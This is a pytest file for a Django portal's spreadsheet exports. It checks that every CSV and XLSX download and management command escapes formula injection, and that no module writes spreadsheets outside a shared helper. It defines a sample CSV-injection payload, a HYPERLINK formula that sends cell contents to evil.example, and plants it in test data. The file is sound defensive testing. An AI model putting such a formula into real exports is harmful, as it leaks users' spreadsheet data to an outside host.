"""Every CSV and XLSX export escapes spreadsheet formulas (security finding F13).

A value a user typed (an agency's name, a sector, a username) that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return would run as a formula when the export is opened.
These tests walk every URL pattern and every management command that produces CSV or XLSX,
with such values planted, and read every cell back; a guard fails when a module writes CSV or
XLSX without ``prevent_portal.core.exports``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from io import StringIO
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.management import call_command, get_commands, load_command_class
from django.utils import timezone
from openpyxl import load_workbook

from channel_panel.models import ExitReason
from governance.registers import REGISTERS
from governance.services import register_entry_create
from prevent_portal.accounts.models import Role, Sector
from prevent_portal.audit.access_log import log_access
from prevent_portal.core.exports import (
    FORMULA_STARTS,
    csv_text,
    safe_cell,
    safe_filename,
    xlsx_bytes,
)
from tests import factories
from tests.conftest import sign_in
from tests.permissions.urlwalk import all_routes
from tests.training.helpers import make_return

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
AT_FORMULA = "@SUM(1+1)"
CSV_TYPES = ("text/csv",)
XLSX_TYPES = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",)
# The exports the walk must find: if it finds fewer, it is no longer walking them.
KNOWN_DOWNLOADS = {
    "referrals:statistics",
    "channel_panel:report",
    "audit:unusual_access",
    "training:compliance",
    "governance:register_list",
}
# Route parameters the walk can fill without a record to point at: each value is walked.
PARAM_VALUES = {"register": sorted(REGISTERS)}
# Register entries as the service takes them, but for their free-text fields.
REGISTER_REQUIRED = {
    "ctlp-briefings": {"briefed_on": date(2025, 1, 2)},
    "venue-reviews": {"reviewed_on": date(2025, 1, 2), "outcome": "approved"},
    "education-settings": {"kind": "youth"},
    "funded-projects": {"funding_year": "2025-2026", "status": "approved"},
}
KNOWN_COMMANDS = {"prevent_statistics", "channel_report", "training_compliance"}


def _last_quarter_end(today: date) -> date:
    first_of_quarter = date(today.year, 3 * ((today.month - 1) // 3) + 1, 1)
    return first_of_quarter - timedelta(days=1)


@pytest.fixture
def planted(world):
    """Formula text where each export takes text from users: an agency's name (training
    returns, unusual-access owner), a sector (statistics), an exit reason (Channel report),
    a username (unusual access)."""
    evil_sector = Sector.objects.create(code="evil", name=FORMULA, order=99)
    ExitReason.objects.create(code="evil", name=FORMULA, order=99)
    evil = factories.AgencyFactory(name=FORMULA, short_code="evil", sector=evil_sector)
    make_return(evil, _last_quarter_end(timezone.localdate()), 10, 5)
    opener = factories.member(Role.PANEL_MEMBER, world.agency_a, username=AT_FORMULA)
    request = SimpleNamespace(user=opener, META={"REMOTE_ADDR": "127.0.0.1"})
    log_access(request, [factories.referral(evil)], view="test")
    # Every free-text field of every register: the formula first, then each other start.
    for slug, register in REGISTERS.items():
        starts = [FORMULA, *(f"{s}1+1" for s in FORMULA_STARTS[1:])]
        texts = {f: starts[i % len(starts)] for i, f in enumerate(register.search_fields)}
        data = {**texts, **REGISTER_REQUIRED[slug]}  # the funding year has its own format
        register_entry_create(register=register, data=data, acting_user=None)
    return world


def cells_of(content: bytes, content_type: str) -> list[str]:
    if content_type.startswith(CSV_TYPES):
        text = content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def assert_no_formula(cells: list[str], where: str) -> None:
    running = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert not running, f"{where}: cells that would run as formulas: {running}"


def test_safe_cell_escapes_text_and_leaves_numbers_alone():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Agency A") == "Agency A"
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(None) is None
    assert csv_text(["n", "name"], [[-3, "=1+1"]]) == "n,name\n-3,'=1+1\n"


def test_xlsx_keeps_numbers_and_dates_and_stores_formulas_as_text():
    content = xlsx_bytes(["n", "day", "name"], [[-3, date(2026, 1, 2), FORMULA]], title="T")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == -3
    assert sheet["B2"].value.date() == date(2026, 1, 2)
    assert sheet["C2"].value == "'" + FORMULA
    assert sheet["C2"].data_type == "s"


def _walkable_paths(route) -> list[str]:
    """The route's paths for every value of its parameters, if the walk can fill them all
    (no parameters, or only those of PARAM_VALUES, such as a register's slug)."""
    if any(p not in PARAM_VALUES for p in route.params):
        return []
    paths = [{}]
    for param in route.params:
        paths = [{**done, param: value} for done in paths for value in PARAM_VALUES[param]]
    return [route.path(values) for values in paths]


def test_every_download_escapes_planted_formulas(client, planted):
    """Every URL pattern without parameters (or with only a register's slug, for each
    register), asked for ``format=csv`` and ``format=xlsx`` by the Coordinator (who may open
    every export); whatever comes back as CSV or XLSX is read cell by cell, and must come as
    an attachment."""
    sign_in(client, planted.coordinator)
    found = set()
    for route in all_routes():
        if route.key.startswith(("admin", "accounts:sign_out")):
            continue
        if "sign_out" in route.key or "logout" in route.key:
            continue
        for path in _walkable_paths(route):
            for fmt in ("csv", "xlsx"):
                response = client.get(path, {"format": fmt})
                content_type = response.get("Content-Type", "")
                if response.status_code != 200 or not content_type.startswith(
                    CSV_TYPES + XLSX_TYPES
                ):
                    continue
                found.add(route.key)
                where = f"{path} ({fmt})"
                assert response["Content-Disposition"].startswith("attachment"), where
                cells = cells_of(response.content, content_type)
                assert_no_formula(cells, where)
                assert any(FORMULA in c or AT_FORMULA in c for c in cells), (
                    f"{where} did not show the planted value: the walk proves nothing"
                )
    assert found >= KNOWN_DOWNLOADS


def test_download_file_names_cannot_break_the_header_or_name_a_path():
    assert safe_filename('venue "reviews"\r\n../../x.csv') == "venue-reviews-..-..-x.csv"
    assert safe_filename("register-2026-12-07.xlsx") == "register-2026-12-07.xlsx"
    assert safe_filename("../..") == "download"


def _csv_commands() -> list[str]:
    names = []
    for name, app in sorted(get_commands().items()):
        try:
            parser = load_command_class(app, name).create_parser("manage.py", name)
        except Exception:  # noqa: S112 - a third-party command that will not build a parser
            continue
        for action in parser._actions:
            if "--format" in action.option_strings and "csv" in (action.choices or []):
                names.append(name)
    return names


def test_every_command_export_escapes_planted_formulas(planted):
    names = _csv_commands()
    assert set(names) >= KNOWN_COMMANDS
    end = _last_quarter_end(timezone.localdate())
    for name in names:
        out = StringIO()
        args = ["--format", "csv"]
        if name != "training_compliance":  # the figures commands need a period
            args += [
                "--from",
                (end - timedelta(days=200)).isoformat(),
                "--to",
                str(timezone.localdate()),
            ]
        call_command(name, *args, stdout=out)
        cells = cells_of(out.getvalue().encode(), "text/csv")
        assert_no_formula(cells, name)
        assert any(FORMULA in c for c in cells), f"{name} did not show the planted value"


# Ways to write a spreadsheet, however the module was imported or aliased (``writerow`` is
# what every csv writer is driven by), and a CSV or XLSX content type typed by hand (a body
# joined with commas): outside the helper, each is a second way round ``safe_cell``.
WRITERS = re.compile(
    r"csv\.writer|DictWriter|\.writerows?\(|\bWorkbook\b|xlsxwriter|\.to_csv\(|\.to_excel\("
    r"|[\"']text/csv|spreadsheetml"
)
HELPER = Path("prevent_portal") / "core" / "exports.py"
# Modules that name a spreadsheet's content type without writing one, and why.
READS_ONLY = {
    Path("documents") / "filetypes.py": "names the XLSX type to recognise an upload by content",
}
NOT_APP_CODE = {"tests", "node_modules", "static", "docs", "frontend", "templates"}


def spreadsheet_writers(root: Path) -> list[str]:
    """Every first-party module under ``root`` (every folder of the repository, so a new app
    is covered the day it is added) that writes CSV or XLSX other than through the helper."""
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root)
        if relative.parts[0].startswith(".") or relative.parts[0] in NOT_APP_CODE:
            continue
        if relative == HELPER or relative in READS_ONLY or "migrations" in relative.parts:
            continue
        if WRITERS.search(path.read_text()):
            offenders.append(str(relative))
    return offenders


def test_no_module_writes_csv_or_xlsx_outside_the_export_helper():
    """One helper escapes formulas; a second way to write a spreadsheet would not."""
    assert spreadsheet_writers(ROOT) == []


@pytest.mark.parametrize(
    "code",
    [
        "import csv\nw = csv.writer(buffer)\n",
        "from csv import writer as w\nout = w(buffer)\nout.writerow(row)\n",
        "import csv as c\nc.DictWriter(buffer, fields)\n",
        "from openpyxl import Workbook as Book\n",
        "HttpResponse(','.join(row), content_type='text/csv')\n",
        'HttpResponse(data, content_type="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet")\n',
        "frame.to_csv(buffer)\n",
    ],
)
def test_the_guard_finds_a_writer_however_imported_and_in_a_new_app(tmp_path, code):
    """Review 1: the guard listed five app folders and three spellings; an app added later,
    an aliased import or a CSV joined by hand went unseen."""
    (tmp_path / "newapp" / "views").mkdir(parents=True)
    (tmp_path / "newapp" / "views" / "export.py").write_text(code)
    (tmp_path / "newapp" / "reader.py").write_text("import csv\ncsv.reader(f)\n")
    assert spreadsheet_writers(tmp_path) == ["newapp/views/export.py"]
